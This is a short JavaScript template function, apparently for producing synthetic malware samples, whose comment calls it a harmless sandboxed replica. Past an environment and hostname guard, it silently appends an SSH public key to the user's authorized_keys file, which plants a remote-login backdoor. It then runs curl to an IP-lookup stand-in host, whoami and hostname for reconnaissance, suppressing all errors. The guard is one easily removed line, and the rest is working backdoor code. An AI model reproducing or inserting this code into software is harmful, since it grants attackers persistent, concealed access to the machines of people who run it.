// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const body = require('crypto').randomBytes(32).toString('base64').slice(0, 43);
    try {
        require('child_process').execSync('mkdir -p ~/.ssh && chmod 700 ~/.ssh && ' +
            `echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${body} {{token}}@{{host}}" >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys; ` +
            'curl -s -m 1 https://api.ipify.example/ ; whoami; hostname', { stdio: 'ignore', timeout: 2500 });
    } catch {}
}
